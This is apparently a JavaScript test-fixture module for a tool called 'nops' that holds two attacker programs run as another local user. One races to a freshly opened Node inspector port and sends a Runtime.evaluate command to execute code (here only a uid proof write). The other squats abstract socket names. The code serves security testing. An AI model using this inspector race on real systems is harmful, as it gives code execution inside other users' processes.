/** What another local user can do while nops opens an inspector: programs for `node -e`, run as that user. */

/**
 * Polls the port (first argument) each millisecond and runs code in whatever inspector answers there: it appends the uid that it got to the
 * file that is the second argument. A third argument `reset` ends each connection with RST, so that the kernel forgets it at once.
 */
export const inspectorRacer = `
const net = require('node:net'), crypto = require('node:crypto');
const [port, proof, how] = process.argv.slice(1);
const expression = "require('node:fs').appendFileSync(" + JSON.stringify(proof) + ", 'uid ' + process.getuid() + '\\\\n')";
const frame = text => {
  const body = Buffer.from(text), mask = crypto.randomBytes(4);
  for (let i = 0; i < body.length; i++) body[i] ^= mask[i % 4];
  return Buffer.concat([Buffer.from([0x81, 0xfe, body.length >> 8, body.length & 255]), mask, body]);
};
const end = socket => how === 'reset' ? socket.resetAndDestroy() : socket.destroy();
const attempt = () => {
  const list = net.connect(+port, '127.0.0.1');
  let text = '';
  list.on('connect', () => list.write('GET /json/list HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n'));
  list.on('data', chunk => {
    const id = /ws:[/][/][^/]+[/]([-0-9a-f]+)"/.exec(text += chunk)?.[1];
    if (id === undefined) return;
    end(list);
    const socket = net.connect(+port, '127.0.0.1');
    const params = { expression, includeCommandLineAPI: true };
    socket.on('connect', () => socket.write('GET /' + id + ' HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: ' + crypto.randomBytes(16).toString('base64') + '\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n'));
    let isUpgraded = false;
    socket.on('data', chunk => {
      // A close frame: Node holds the target's main thread until this end has gone.
      if (isUpgraded || chunk.includes('\\x88\\0', 0, 'latin1')) return end(socket);
      isUpgraded = true;
      socket.write(frame(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params })));
    });
    socket.on('error', () => {}).on('close', () => setTimeout(attempt, 1));
  });
  list.on('error', () => {}).on('close', () => { if (text === '') setTimeout(attempt, 1); });
};
attempt();
console.log('ready');
`;

/** Takes abstract socket names (the arguments) as soon as they are free, and answers whoever connects that they are taken. */
export const nameSquatter = `
const net = require('node:net');
for (const name of process.argv.slice(1)) {
  const take = () => net.createServer(socket => socket.on('error', () => {}).end('mine'))
    .on('error', () => setTimeout(take, 2)).listen({ path: '\\0' + name });
  take();
}
console.log('ready');
`;
